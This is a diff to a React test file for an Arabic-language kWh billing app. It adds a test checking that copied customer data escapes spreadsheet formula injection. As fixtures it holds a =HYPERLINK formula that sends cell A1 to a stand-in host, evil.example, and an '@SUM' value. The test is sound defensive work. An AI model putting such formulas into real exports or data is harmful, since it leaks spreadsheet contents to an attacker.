@@ -1,4 +1,5 @@
 import { screen, waitFor, within } from '@testing-library/react';
+import { parse as parseDelimited } from 'papaparse';
 import { billingSystems } from '../../../test/billing-systems-fixtures';
 import { kwhCustomer, liveMonth } from '../../../test/kwh-fixtures';
 import { mockFetch, operator, type FakeRoute } from '../../../test/mock-fetch';
@@ -624,6 +625,40 @@ describe('the copy buttons', () => {
     expect(lines[1].split('\t')).toEqual(
       expect.arrayContaining(['#1000', 'محمد علي', '120', '46', 'غير مدفوع']),
     );
+  });
+
+  it('copies what customers typed as data and keeps a credit a number, as a spreadsheet would read the paste', async () => {
+    const hyperlink = '=HYPERLINK("http://evil.example/?x="&A1,"اضغط")';
+    const risky = kwhCustomer({
+      customerNumber: 1000,
+      name: hyperlink,
+      box: '-عميل',
+      address: '+961 3 123456',
+      amountPaid: 62.5,
+      outstandingBalance: -12.5,
+      isPaid: true,
+    });
+    const { user } = setup('mahmoud-kwh', {}, [
+      risky,
+      kwhCustomer({ customerNumber: 1001, name: '@SUM(A1:A9)' }),
+    ]);
+    await table();
+    const pasted = async (button: string) => {
+      await user.click(screen.getByRole('button', { name: button }));
+      const { data, errors } = parseDelimited<(string | number)[]>(await navigator.clipboard.readText(), {
+        delimiter: '\t',
+        dynamicTyping: true,
+      });
+      expect(errors).toEqual([]);
+      for (const cell of data.flat()) if (typeof cell === 'string') expect(cell).not.toMatch(/^[=+\-@\t\r]/);
+      return data;
+    };
+
+    expect((await pasted('نسخ الأسماء')).flat()).toEqual([`'${hyperlink}`, "'@SUM(A1:A9)"]);
+    expect((await pasted('نسخ العلب')).flat()).toEqual(["'-عميل", 5]);
+    const all = await pasted('نسخ جميع البيانات');
+    expect(all[1].slice(1, 4)).toEqual([`'${hyperlink}`, "'-عميل", "'+961 3 123456"]);
+    expect(all[1]).toContain(-12.5);
   });
 
   it('says there is nothing to copy when the group is empty', async () => {
